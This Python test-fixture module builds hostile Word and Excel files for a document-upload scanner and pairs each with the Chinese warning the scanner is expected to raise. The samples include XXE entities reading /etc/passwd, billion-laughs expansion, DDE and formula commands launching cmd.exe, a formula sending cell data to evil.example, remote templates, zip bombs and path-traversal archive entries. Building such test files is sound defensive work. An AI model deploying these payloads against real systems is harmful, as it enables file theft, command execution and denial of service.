"""Word and Excel files that would run, fetch, hide or swell: rows of ``hostile_files``, made of honest ones."""

import io
import struct
import zipfile
from collections.abc import Callable
from functools import cache

from docx import Document
from openpyxl import Workbook

MEGABYTE = 1024 * 1024
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 99 + b'"><!ENTITY c "' + b"&b;" * 99 + b'">]>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOC, BOOK, SHEET = "word/document.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"
DOC_RELS, TYPES = "word/_rels/document.xml.rels", "[Content_Types].xml"


@cache
def word() -> bytes:
    out, document = io.BytesIO(), Document()
    document.add_paragraph("东溪村创建方案")
    document.save(out)
    return out.getvalue()


@cache
def excel() -> bytes:
    return table([["村", "收入"], ["东溪村", 12]])


def table(rows: list[list[object]]) -> bytes:
    out, book = io.BytesIO(), Workbook()
    for row in rows:
        book.active.append(row)
    for cells in book.active.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # a text, whatever it begins with
    book.save(out)
    return out.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def packed(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries.items():
            file.writestr(name, content)
    return out.getvalue()


def changed(content: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    entries = parts(content)
    assert part in entries and change(entries[part]) != entries[part]
    return packed({**entries, part: change(entries[part])})


def added(content: bytes, **entries: bytes) -> bytes:
    return packed({**parts(content), **entries})


def word_with(xml: str, part: str = DOC) -> bytes:
    """A document with more in its body."""
    return changed(word(), part, lambda text: text.replace(b"<w:body>", b"<w:body>" + xml.encode()))


def field(*pieces: str) -> str:
    """A field whose command is written in pieces, each in a run of its own."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}{mark.format('end')}</w:p>"


def quoted() -> str:
    """A field whose command another field spells from numbers."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = f"{mark.format('begin')}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark.format('end')}"
    return f"<w:p>{mark.format('begin')}{inner}{mark.format('end')}</w:p>"


def related(kind: str, target: str, *, outside: bool = True, content: bytes = b"", part: str = DOC_RELS) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="rId99" Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(content or word(), part, lambda text: text.replace(b"</Relationships>", line.encode()))


def excel_with(cell: str) -> bytes:
    return changed(excel(), SHEET, lambda text: text.replace(b"</sheetData>", f"{cell}</sheetData>".encode()))


def formula(text: str) -> bytes:
    return excel_with(f'<row r="9"><c r="A9"><f>{text}</f><v>0</v></c></row>')


def after_declaration(content: bytes, part: str, doctype: bytes) -> bytes:
    return changed(content, part, lambda text: text.replace(b"?>", b"?>" + doctype, 1))


def in_utf16(text: bytes) -> bytes:
    body = text.partition(b"?>")[2].decode()
    return f'<?xml version="1.0" encoding="UTF-16"?>{XXE.decode()}{body}'.encode("utf-16")


def macro_types() -> bytes:
    return changed(word(), TYPES, lambda text: text.replace(
        b"officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"))  # fmt: skip


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    """Another name of the same length, written over the old one in every place."""
    assert len(old) == len(new) and old in content
    return content.replace(old, new)


def with_entry(name: bytes) -> bytes:
    """An entry with a name that a writer of archives would not write."""
    stand_in = b"Q" * len(name)
    return renamed(added(word(), **{stand_in.decode(): b"root"}), stand_in, name)


def zip_bomb() -> bytes:
    """300 MB of nothing in a sheet of 300 kB."""
    out, entries = io.BytesIO(), parts(excel())
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, content in entries.items():
            file.writestr(name, content)
        with file.open("xl/worksheets/sheet2.xml", "w") as sheet:
            for _ in range(300):
                sheet.write(bytes(MEGABYTE))
    return out.getvalue()


def lying_bomb() -> bytes:
    """The same with a directory that says it is ten bytes."""
    content = bytearray(zip_bomb())
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def overlapping() -> bytes:
    """Two entries of the directory that unpack the same bytes."""
    content = bytearray(added(word(), **{"word/media/a.png": b"\x89PNG" * 9, "word/media/b.png": b"\x89PNG" * 9}))
    last = content.rfind(b"PK\x01\x02")
    before = content.rfind(b"PK\x01\x02", 0, last)
    content[last + 42 : last + 46] = content[before + 42 : before + 46]
    return bytes(content)


def locked_entry() -> bytes:
    content = bytearray(word())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def twice() -> bytes:
    return renamed(added(word(), **{"word/documenQ.xml": b"<x/>"}), b"word/documenQ.xml", DOC.encode())


DEEP = "<w:p>" * 5_000 + "</w:p>" * 5_000
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
ALT = '<w:altChunk r:id="rId99"/>'
DDE_SIMPLE = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
OUTER_FORMULA = 'HYPERLINK("http://evil.example/?x="&amp;A1,"点击")'
INJECTED = [["=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1"], ["东溪村", 12, "村", "村", "村"]]

WORD = (
    ("Word with macros", "总结.docx", lambda: added(word(), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "含有宏"),
    ("Word with macros and their name", "总结.docm",
     lambda: added(word(), **{"word/vbaData.xml": b"<x/>"}), "扩展名 .docm"),
    ("Word that says it has macros", "总结.docx", macro_types, "含有宏"),
    ("Word with a far template", "总结.docx", lambda: related("attachedTemplate", "http://evil.example/a.dotm"), "外部模板"),
    ("Word with a picture from elsewhere", "总结.docx", lambda: related("image", "http://evil.example/a.png"), "链接了外部"),
    ("Word with a frame from elsewhere", "总结.docx", lambda: related("frame", "http://evil.example/"), "链接了外部"),
    ("Word with a link to a shared folder", "总结.docx", lambda: related("hyperlink", "file://10.0.0.1/a"), "共享文件夹"),
    ("Word with a link that runs", "总结.docx", lambda: related("hyperlink", "javascript:alert(1)"), "超链接"),
    ("Word with a program in it", "总结.docx",
     lambda: added(word(), **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "嵌入了其他文件"),
    ("Word with a hidden program", "总结.docx", lambda: added(word(), **{"word/media/a.png": b"MZ\x90"}), "嵌入了其他文件"),
    ("Word with an object under a plain name", "总结.docx",
     lambda: related("oleObject", "media/a.xml", outside=False), "嵌入了其他文件"),
    ("Word with a web page in it", "总结.docx", lambda: word_with(ALT), "嵌入了其他文件"),
    ("Word with controls", "总结.docx", lambda: added(word(), **{"word/activeX/activeX1.xml": b"<x/>"}), "ActiveX"),
    ("Word with an add-in", "总结.docx", lambda: added(word(), **{"word/webextensions/a.xml": b"<x/>"}), "链接了外部"),
    ("Word with DDE", "总结.docx", lambda: word_with(DDE_SIMPLE), "DDE"),
    ("Word with DDE in pieces", "总结.docx", lambda: word_with(field(" D", "DE", "AUTO cmd &quot;/k calc&quot;")), "DDE"),
    ("Word with DDE spelled by numbers", "总结.docx", lambda: word_with(quoted()), "其他域拼成"),
    ("Word with a field that fetches", "总结.docx",
     lambda: word_with(field('INCLUDEPICTURE "http://e.example"')), "外部内容"),
    ("Word with an external entity", "总结.docx", lambda: after_declaration(word(), DOC, XXE), "外部实体"),
    ("Word with an external entity in UTF-16", "总结.docx", lambda: changed(word(), DOC, in_utf16), "外部实体"),
    ("Word with an entity in its relations", "总结.docx", lambda: after_declaration(word(), "_rels/.rels", XXE), "外部实体"),
    ("Word with an entity in its properties", "总结.docx",
     lambda: after_declaration(word(), "docProps/core.xml", LAUGHS), "外部实体"),
    ("Word nested 5000 deep", "总结.docx", lambda: word_with(DEEP), "嵌套过深"),
    ("Word with broken XML", "总结.docx", lambda: word_with("<w:p>"), "已损坏"),
    ("Word in a rare encoding", "总结.docx",
     lambda: changed(word(), DOC, lambda text: text.replace(b"UTF-8", b"UTF-7", 1)), "编码"),
    ("half a Word document", "总结.docx", lambda: word()[:5000], "打不开"),
)  # fmt: skip

EXCEL = (
    ("Excel with macros", "台账.xlsx", lambda: added(excel(), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "含有宏"),
    ("Excel with a macro sheet", "台账.xlsx", lambda: added(excel(), **{"xl/macrosheets/sheet1.xml": b"<x/>"}), "含有宏"),
    ("Excel with a link to a file", "台账.xlsx",
     lambda: added(excel(), **{"xl/externalLinks/externalLink1.xml": b"<x/>"}), "断开链接"),
    ("Excel with a data connection", "台账.xlsx", lambda: added(excel(), **{"xl/connections.xml": b"<x/>"}), "断开链接"),
    ("Excel that runs a program", "台账.xlsx", lambda: formula("cmd|'/c calc'!A0"), "的公式会读取外部内容或运行程序"),
    ("Excel that sends a cell", "台账.xlsx", lambda: formula(OUTER_FORMULA), "的公式会读取外部内容"),
    ("Excel that fetches", "台账.xlsx", lambda: formula('_xlfn.WEBSERVICE("http://e.example")'), "的公式会读取外部内容"),
    ("Excel with a function by character codes", "台账.xlsx", lambda: formula('&#87;EBSERVICE("x")'), "的公式会读取外部内容"),
    ("Excel with a billion laughs", "台账.xlsx", lambda: changed(excel(), SHEET, lambda text: LAUGHS + text), "外部实体"),
    ("Excel with an external entity", "台账.xlsx",
     lambda: changed(excel(), BOOK, lambda text: b"<?xml version='1.0'?>" + XXE + text), "外部实体"),
    ("Excel with one cell far away", "台账.xlsx", lambda: excel_with(FAR), "第 1048576 行"),
    ("Excel with texts like formulas", "台账.xlsx", lambda: table(INJECTED), "", b'"='),
)  # fmt: skip

ARCHIVES = (
    ("300 MB in 300 kB", "台账.xlsx", zip_bomb, "压缩炸弹"),
    ("300 MB that say they are ten bytes", "台账.xlsx", lying_bomb, "打不开"),
    ("parts that overlap", "总结.docx", overlapping, "互相重叠"),
    ("3000 parts", "总结.docx", lambda: added(word(), **{f"word/x{n}.xml": b"<x/>" for n in range(3_000)}), "个部件"),
    ("a directory of 2 MB", "总结.docx", lambda: added(word(), **{f"{n:060000d}": b"" for n in range(40)}), "太多"),
    ("an archive in the archive", "总结.docx", lambda: added(word(), **{"word/media/a.png": word()}), "里面还有压缩包"),
    ("a path upwards", "总结.docx", lambda: with_entry(b"../../../etc/passwd"), "文件路径"),
    ("a path from the root", "总结.docx", lambda: with_entry(b"/etc/cron.d/evil"), "文件路径"),
    ("a path of Windows", "总结.docx", lambda: with_entry(b"..\\..\\evil.exe"), "文件路径"),
    ("a name that ends early", "总结.docx", lambda: with_entry(b"word/a.xml\0.exe"), "文件路径"),
    ("two parts of one name", "总结.docx", twice, "文件路径"),
    ("a part behind a password", "总结.docx", locked_entry, "加了密码"),
    ("a web page behind the archive", "总结.docx", lambda: word() + b"<html><script>", "末尾附加了别的内容"),
    ("an archive before the archive", "总结.docx", lambda: packed({"a.txt": b"x"}) + word(), "前面附加了别的内容"),
    ("an archive without a directory", "总结.docx", lambda: b"PK\x03\x04" + bytes(500), "打不开"),
)  # fmt: skip
